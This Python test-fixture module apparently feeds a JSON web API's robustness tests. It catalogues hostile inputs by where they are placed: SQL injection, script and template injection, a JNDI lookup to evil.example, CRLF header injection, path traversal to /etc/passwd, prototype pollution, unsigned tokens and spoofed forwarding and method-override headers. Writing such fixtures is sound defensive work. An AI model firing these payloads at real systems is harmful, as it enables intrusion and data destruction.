"""Hostile values, by where they are put."""

import json

# How the HTTP server refuses what is no HTTP, before the application: a plain page.
BY_THE_SERVER = (0, "by the server")

# As they are written in JSON: each of another type than most members are.
OTHER_TYPES = {
    written: written
    for written in (
        "true", "false", "null", "7", "-1.5", "9" * 32, "[]", '["x"]', "[null]", "{}", '{"$ne": null}',
        '{"__proto__": {"is_staff": true}}',
    )
}  # fmt: skip
TEXTS = {
    "empty": "",
    "a blank": " ",
    "long": "x" * 10_000,
    "NUL": "a\0b",
    "control characters": "a\x01\x07\x08\x1b[31mb",
    "a line": "a\r\nSet-Cookie: a=b",
    "an address line": "ann@example.com\r\nBcc: eve@example.com",
    "a separator of lines": "a\u2028b\u2029c",
    "turned around": "ann\u202egpj.exe",
    "without width": "an\u200bn",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "beyond all planes": "\U0010ffff\ufffe",
    "one that grows": "\ufdfa" * 200,
    "SQL": "' or 1=1; drop table accounts_user; --",
    "a pattern": "%_\\%",
    "HTML": "<script>alert(1)</script>",
    "a template": "{{7*7}}{% debug %}${7*7}#{7}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a number": "7",
    "true": "true",
    "a year too early": "0001-01-01T00:00:00+23:59",
    "a year too late": "9999-12-31T23:59:59.999999-23:59",
    "no day": "2026-02-30T00:00:00Z",
    "a token of nothing": "eyJhbGciOiJub25lIn0.e30.",
}
# JSON that no reader takes for the same, in place of a value.
BROKEN = {
    "half a pair": '"\\ud800"', "the other half": '"a\\udc00b"', "a raw NUL": '"a\0b"', "a huge number": "9" * 60,
    "overlong UTF-8": '"\udcc0\udcaf"',
}  # fmt: skip
WRITTEN_VALUES = OTHER_TYPES | {name: json.dumps(text, ensure_ascii=name != "emoji") for name, text in TEXTS.items()}

STRANGE_NAMES = [
    "hostile", "", "_private", "__proto__", "constructor", "__class__", "id", "is_staff", "is_superuser", "version",
    "a" * 10_000, "a/b~c", "a.b", "a[]", "\0", "\u202e", "\U0001f468",
]  # fmt: skip

# In a query string as they go over the wire, most of them encoded.
QUERY_VALUES = [
    "", "%20", "%00", "a%00b", "-1", "1.5", "1e9", "%2B5", "007", "9" * 40, "x" * 2_000, "TRUE", "1", "%D9%A3", "%FF",
    "%C0%AF", "%ED%A0%80", "%F0%9F%91%A8", "%", "%0D%0ASet-Cookie:a=b", "%E2%80%AE", "%27%20or%201=1--", "_%25%5C",
    "{{7*7}}", "..%2f..%2fetc", "a;b=c", "0001-01-01T00:00:00%2B23:59", "9999-12-31T23:59:59.999999-23:59",
    "2026-02-30T00:00:00Z", "00000000-0000-0000-0000-000000000000", "W10:1abcde:" + "x" * 43,
]  # fmt: skip
STRANGE_QUERIES = [
    "?hostile=1", "?=", "?__proto__[a]=b", "?a[]=1&a[]=2", "?format=api", "?_method=DELETE", "?%00%FF=1",
    "?hostile=1;page_size=2", "?" + "&".join(f"a{n}=" for n in range(300)),
]  # fmt: skip

# In place of an id in a path.
ID = "01a2101e-30ab-7110-a909-a024da587fc4"
NO_IDS = [
    "me", "0", "-1", "null", "x" * 2_000, "%00", "..", "%2e%2e", "..%2f..", "%2e%2e%2fme", "a%2fb", "%5c..%5c", "%FF",
    "%C0%AE", "%ED%A0%80", "%F0%9F%91%A8", "%E2%80%AE", "%0d%0aSet-Cookie:a=b", "%27%20or%201=1--", "*", "{{7*7}}",
    "%0a", "%EF%BC%90" * 8, ID.upper(), ID.replace("-", ""), f"{{{ID}}}", f"urn:uuid:{ID}", ID[:-1], f"{ID}0",
    f"{ID};a=b", f"{ID}%20", f"{ID}%00", f"{ID}%0a", f"{ID}%2f", f"{ID}/",
]  # fmt: skip
IDS_OF_NOTHING = [ID, "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"]

# In headers that change nothing, whatever they say; each request has one value of each.
_ODD = [
    "",
    "x" * 2_000,
    "\u202e\U0001f468",
    "\udcff\udcfe",
    "' or 1=1--",
    "<script>{{7*7}}",
    "a,b;c=d;=;,",
    '"',
    "%00%0d%0a",
]
_SAY = {
    "X-Request-ID": ["a b", "x" * 65, "../../etc/passwd"],
    "traceparent": ["00-" + "0" * 32 + "-" + "0" * 16 + "-01", "ff-" + "a" * 32 + "-" + "b" * 16 + "-01"],
    "tracestate": [],
    "User-Agent": [],
    "X-Forwarded-For": ["1.2.3.4, 5.6.7.8", "::ffff:1.2.3.4", "1.2.3.4:80", "," * 2_000],
    "Forwarded": ["for=1.2.3.4;host=evil.example;proto=https"],
    "X-Real-IP": ["1.2.3.4"],
    "X-Forwarded-Host": ["evil.example"],
    "X-Forwarded-Proto": ["https"],
    "X-Forwarded-Prefix": ["/admin"],
    "X-Original-URL": ["/admin/", "/api/v1/users/me"],
    "X-Rewrite-URL": ["/admin/"],
    "X-HTTP-Method-Override": ["DELETE", "GET", "TRACE"],
    "X-HTTP-Method": ["DELETE", "GET"],
    "X-Method-Override": ["DELETE", "GET"],
    "Origin": ["null", "https://evil.example", "http://localhost.evil.example"],
    "Referer": ["https://evil.example/"],
    "Cookie": ["sessionid=x", "csrftoken=x; csrftoken=y", "=", ";" * 2_000, 'a="b', "__Host-sessionid=\\073"],
    "X-CSRFToken": [],
    "Range": ["bytes=0-0", "bytes=-1"],
    "If-None-Match": ["*", '"1"'],
    "If-Modified-Since": ["Thu, 01 Jan 2099 00:00:00 GMT"],
    "Accept-Language": ["xx-" + "y" * 200],
    "Accept-Encoding": ["gzip;q=0, *;q=0"],
    "Upgrade": ["h2c", "websocket"],
    "TE": ["trailers"],
    "Expect": ["100-continue"] * 2,
    "Proxy": ["http://evil.example"],
    "Content-Language": [],
}
_WITHOUT_A_SAY = {name: values if name == "Expect" else values + _ODD for name, values in _SAY.items()}
ROUNDS = [[(name, values[number % len(values)]) for name, values in _WITHOUT_A_SAY.items()] for number in range(12)]
# What the request is answered, with such a header; None is any refusal, or as without it.
UNREADABLE, NO_FORM, NOT_JSON = (400, "malformed-request"), (415, "unsupported-media-type"), (406, "not-acceptable")
HEADERS: list[tuple[str, str, tuple[int, str] | None]] = [
    *(("Host", host, UNREADABLE) for host in ("localhost, evil.example", "a@localhost", "[::1")),
    *(("Accept", accept, NOT_JSON) for accept in ("text/html", "a/b," * 500)),
    *(("Accept", accept, None) for accept in ("/;", "application/json; x*=odd''y", "a/b;q=x", "*/*;q=0, \udcff")),
    *(("Content-Encoding", coding, NO_FORM) for coding in ("gzip", "\udcff")),
    *(("Content-Length", length, BY_THE_SERVER) for length in ("-1", "1_0", "2, 2")),
    ("Expect", "miracles", BY_THE_SERVER),
    ("Transfer-Encoding", "gzip", BY_THE_SERVER),
]
# Of those that some operations know.
KNOWN_HEADERS = {
    "Idempotency-Key": ["", "short", "x" * 256, "a b c d e f", "\u202e" * 8, "\udcff" * 8],
    "If-Match": ["", '"', "W/*", '"1", *', '"' + "9" * 400 + '"', "\u0661", "\udcff"],
}
